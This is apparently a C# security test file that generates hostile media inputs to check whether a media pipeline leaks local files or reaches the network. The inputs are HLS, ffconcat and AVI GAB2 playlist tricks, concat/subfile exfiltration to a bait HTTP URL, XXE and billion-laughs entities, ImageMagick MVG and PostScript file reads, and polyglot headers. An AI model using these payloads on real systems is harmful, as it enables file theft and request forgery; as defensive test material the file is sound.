using System.Buffers.Binary;
using System.Text;

namespace Pipeline.Tools.Tests.Media.Programs;

/// <summary>Files whose whole content is the name of something else: playlists, scripts, manifests, drawings, subtitle indexes.</summary>
internal static class References
{
    public static IEnumerable<HostileFile> All(Bait bait, Samples samples)
    {
        var (film, text) = (bait.SecretFilm, bait.SecretText);
        foreach (var (name, content) in Playlists(bait).Concat(Scripts(bait)).Concat(Documents(bait)))
        {
            yield return new("reference", name, Encoding.UTF8.GetBytes(content), Reaches: true);
        }

        yield return new("reference", "xbin.avi", Avi(Hls("file:" + film)), Reaches: true);
        yield return new("reference", "xbin-http.avi", Avi(Hls(bait.Http)), Reaches: true);
        var movie = File.ReadAllBytes(samples.Mp4);
        yield return new("reference", "dref-url.mp4", Foreign(movie, "url ", bait.Http), Reaches: true);
        yield return new("reference", "dref-alias.mov", Foreign(movie, "alis", text), Reaches: true);
        yield return new("reference", "dref-urn.mp4", Foreign(movie, "urn ", "file:" + film), Reaches: true);
        foreach (var (kind, head) in Polyglots(movie))
        {
            yield return new("polyglot", kind, [.. head, .. Encoding.UTF8.GetBytes("\n" + Hls("file:" + film) + Hls(bait.Http))], Reaches: true);
        }
    }

    private static string Hls(params string[] parts) =>
        "#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXT-X-MEDIA-SEQUENCE:0\n" + string.Concat(parts.Select(part => $"#EXTINF:1.0,\n{part}\n")) + "#EXT-X-ENDLIST\n";

    private static IEnumerable<(string Name, string Content)> Playlists(Bait bait)
    {
        var (film, text, head) = (bait.SecretFilm, bait.SecretText, "#EXTM3U\n#EXT-X-TARGETDURATION:1\n");
        yield return ("file.mp4", Hls("file:" + film));
        yield return ("absolute.mov", Hls(film));
        yield return ("file-slashes.avi", Hls("file://" + film));
        yield return ("http.m3u8", Hls(bait.Http));
        yield return ("http6.txt", Hls(bait.HttpSix));
        yield return ("tcp.mp4", Hls(bait.Tcp));
        yield return ("udp.mp4", Hls(bait.Udp + "?pkt_size=1316"));
        yield return ("unix.mp4", Hls("unix:" + bait.UnixSocket));
        yield return ("concat.mp4", Hls($"concat:{film}|{film}"));
        yield return ("concatf.mp4", Hls($"concatf:{text}"));
        yield return ("subfile.mp4", Hls($"subfile,,start,0,end,100000,,:{film}"));
        yield return ("exfiltrate.mp4", Hls($"concat:{bait.Http}?|subfile,,start,0,end,30,,:{text}"));
        yield return ("crypto.mp4", $"{head}#EXT-X-KEY:METHOD=AES-128,URI=\"file:{text}\"\n#EXTINF:1,\n{bait.Http}\n#EXT-X-ENDLIST\n");
        yield return ("key-http.mp4", $"{head}#EXT-X-KEY:METHOD=AES-128,URI=\"{bait.Http}\"\n#EXTINF:1,\nfile:{film}\n#EXT-X-ENDLIST\n");
        yield return ("map.mp4", $"{head}#EXT-X-MAP:URI=\"{bait.Http}\"\n#EXTINF:1,\nfile:{film}\n#EXT-X-ENDLIST\n");
        yield return ("data.mp4", Hls("data:video/mp2t;base64," + Convert.ToBase64String(File.ReadAllBytes(film)[..376])));
        yield return ("cache.mp4", Hls("cache:" + bait.Http));
        yield return ("master-file.mp4", $"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nfile:{film}\n#EXT-X-STREAM-INF:BANDWIDTH=2\n{bait.Http}\n");
        var child = Convert.ToBase64String(Encoding.UTF8.GetBytes(Hls("file:" + film, bait.Http)));
        yield return ("child.mp4", $"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\ndata:application/vnd.apple.mpegurl;base64,{child}\n");
        yield return ("media-group.mp4", $"#EXTM3U\n#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID=\"a\",NAME=\"a\",URI=\"{bait.Http}\"\n#EXT-X-STREAM-INF:BANDWIDTH=1,AUDIO=\"a\"\nfile:{film}\n");
        yield return ("itself.mp4", "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nitself.mp4\n");
        yield return ("marked.mp4", "\uFEFF" + Hls("file:" + film, bait.Http));
        yield return ("live.mp4", $"{head}#EXTINF:1,\nfile:{film}\n#EXTINF:1,\n{bait.Http}\n");
        yield return ("playlist.pls", $"[playlist]\nNumberOfEntries=1\nFile1={bait.Http}\n");
        yield return ("playlist.asx", $"<ASX version=\"3.0\"><ENTRY><REF HREF=\"{bait.Http}\"/></ENTRY></ASX>");
        yield return ("playlist.m3u", $"{film}\n{bait.Http}\n");
    }

    private static IEnumerable<(string Name, string Content)> Scripts(Bait bait)
    {
        var (film, text) = (bait.SecretFilm, bait.SecretText);
        yield return ("script.mp4", $"ffconcat version 1.0\nfile '{film}'\n");
        yield return ("script-relative.mp4", "ffconcat version 1.0\nfile ../../passwords.txt\nfile private.ts\n");
        yield return ("script-http.mov", $"ffconcat version 1.0\nfile '{bait.Http}'\n");
        yield return ("script-option.mp4", $"ffconcat version 1.0\nfile '{film}'\noption protocol_whitelist file,http,tcp,udp,unix\noption safe 0\n");
        yield return ("description.sdp", $"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video {bait.UdpPort} RTP/AVP 96\na=rtpmap:96 H264/90000\n");
        yield return ("redirect.rtsp", $"RTSPtextRTSP://127.0.0.1:{bait.Http.Split(':')[2].Split('/')[0]}/x\n");
        yield return ("index.idx", $"# VobSub index file, v7 (do not modify this line!)\nsize: 720x576\nid: en, index: 0\ntimestamp: 00:00:00:000, filepos: 000000000\n");
        yield return ("styled.ass", $"[Script Info]\nScriptType: v4.00+\n[Fonts]\nfontname: {text}\n[Events]\nDialogue: 0,0:00:00.00,0:00:01.00,Default,,0,0,0,,{{\\fn{text}\\p1}}m 0 0\n");
        yield return ("styled.ssa", $"[Script Info]\nScriptType: v4.00\nCollisions: Normal\n[Graphics]\nfilename: {film}\n");
        yield return ("subtitles.srt", $"1\n00:00:00,000 --> 00:00:01,000\n<script>fetch('{bait.Http}')</script><img src=\"file:{text}\">\n");
        yield return ("subtitles.smi", $"<SAMI><BODY><SYNC Start=0><P><img src=\"{bait.Http}\"></SAMI>");
        yield return ("subtitles.vtt", $"WEBVTT\nX-TIMESTAMP-MAP=LOCAL:00:00:00.000\n\nSTYLE\n::cue {{ background: url({bait.Http}) }}\n\n00:00.000 --> 00:01.000\n{text}\n");
        yield return ("real.rt", $"<window type=\"generic\"><a href=\"file:{text}\">x</a></window>");
        yield return ("metadata.ffmeta", $";FFMETADATA1\ntitle={bait.Http}\n[CHAPTER]\nTIMEBASE=1/1\nSTART=0\nEND=9\n");
    }

    private static IEnumerable<(string Name, string Content)> Documents(Bait bait)
    {
        var (film, text) = (bait.SecretFilm, bait.SecretText);
        string Mpd(string url) => $"<MPD xmlns=\"urn:mpeg:dash:schema:mpd:2011\" type=\"static\" mediaPresentationDuration=\"PT1S\" profiles=\"urn:mpeg:dash:profile:isoff-on-demand:2011\"><Period><AdaptationSet mimeType=\"video/mp2t\"><Representation id=\"1\" bandwidth=\"1\"><BaseURL>{url}</BaseURL></Representation></AdaptationSet></Period></MPD>";
        yield return ("manifest-file.mpd", "<?xml version=\"1.0\"?>" + Mpd("file://" + film));
        yield return ("manifest-http.mp4", "<?xml version=\"1.0\"?>" + Mpd(bait.Http));
        yield return ("manifest-entity.mpd", $"<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY s SYSTEM \"file://{text}\"><!ENTITY % h SYSTEM \"{bait.Http}\"> %h;]>" + Mpd("&s;"));
        yield return ("manifest-billion.mpd", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">]>" + Mpd("&c;"));
        yield return ("drawing-file.svg", $"<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"><image xlink:href=\"file://{text}\" width=\"9\" height=\"9\"/></svg>");
        yield return ("drawing-http.png", $"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"{bait.Http}\"/></svg>");
        yield return ("drawing-entity.svg", $"<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY s SYSTEM \"file://{text}\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&s;</text></svg>");
        yield return ("composition.xml", $"<?xml version=\"1.0\"?><CompositionPlaylist xmlns=\"http://www.smpte-ra.org/schemas/2067-3/2016\"><Id>{bait.Http}</Id></CompositionPlaylist>");
        yield return ("magick.mvg", $"push graphic-context\nviewbox 0 0 9 9\nimage over 0,0 0,0 'file:{text}'\npop graphic-context\n");
        yield return ("page.ps", $"%!PS\n({text}) (r) file 100 string readstring pop show showpage\n");
    }

    // A RIFF AVI of one subtitle stream whose only chunk is a GAB2 block: what it holds is handed to whatever demuxer knows it.
    private static byte[] Avi(string playlist)
    {
        var inner = Encoding.UTF8.GetBytes(playlist);
        byte[] gab = [.. "GAB2\0"u8, 2, 0, 2, 0, 0, 0, (byte)'x', 0, 4, 0, .. Little(inner.Length), .. inner];
        var header = Chunk("strh", [.. "txts"u8, .. new byte[16], .. Little(1), .. Little(1), .. new byte[24]]);
        var stream = List("strl", [.. header, .. Chunk("strf", [])]);
        var main = Chunk("avih", [.. Little(40000), .. new byte[12], .. Little(1), .. Little(0), .. Little(1), .. new byte[28]]);
        byte[] body = [.. "AVI "u8, .. List("hdrl", [.. main, .. stream]), .. List("movi", Chunk("00tx", gab))];
        return [.. "RIFF"u8, .. Little(body.Length), .. body];
    }

    private static byte[] Chunk(string name, byte[] content) => [.. Encoding.ASCII.GetBytes(name), .. Little(content.Length), .. content, .. new byte[content.Length % 2]];

    private static byte[] List(string name, byte[] content) => Chunk("LIST", [.. Encoding.ASCII.GetBytes(name), .. content]);

    private static byte[] Little(int value)
    {
        var bytes = new byte[4];
        BinaryPrimitives.WriteInt32LittleEndian(bytes, value);
        return bytes;
    }

    // The movie's own data reference says that the samples lie elsewhere.
    private static byte[] Foreign(byte[] movie, string type, string place)
    {
        var content = movie.ToArray();
        for (var at = content.AsSpan().IndexOf("url "u8); at > 0;)
        {
            Encoding.ASCII.GetBytes(type).CopyTo(content, at);
            content[at + 7] = 0;
            var next = content.AsSpan(at + 4).IndexOf("url "u8);
            at = next < 0 ? -1 : at + 4 + next;
        }

        return [.. content, .. Movies.Box("udta", Encoding.UTF8.GetBytes(place))];
    }

    private static IEnumerable<(string Name, byte[] Head)> Polyglots(byte[] movie)
    {
        yield return ("movie-then-playlist.mp4", movie);
        yield return ("empty-movie.mp4", Movies.Box("ftyp", "isom\0\0\0\0isom"u8.ToArray()));
        yield return ("picture.jpg", [0xFF, 0xD8, 0xFF, 0xE0, 0, 16, .. "JFIF\0"u8, 1, 1, 0, 0, 1, 0, 1, 0, 0]);
        yield return ("picture.png", [0x89, .. "PNG\r\n\u001a\n"u8, 0, 0, 0, 13, .. "IHDR"u8]);
        yield return ("picture.gif", "GIF89a\u0001\0\u0001\0\0\0\0"u8.ToArray());
        yield return ("sound.mp3", [.. "ID3\u0004\0\0\0\0\0\n"u8, .. new byte[10]]);
        yield return ("sound.wav", [.. "RIFF\0\0\0\0WAVEfmt \u0010\0\0\0\u0001\0\u0001\0"u8]);
        yield return ("webpage.flv", [.. "FLV\u0001\u0005\0\0\0\t\0\0\0\0"u8]);
    }
}
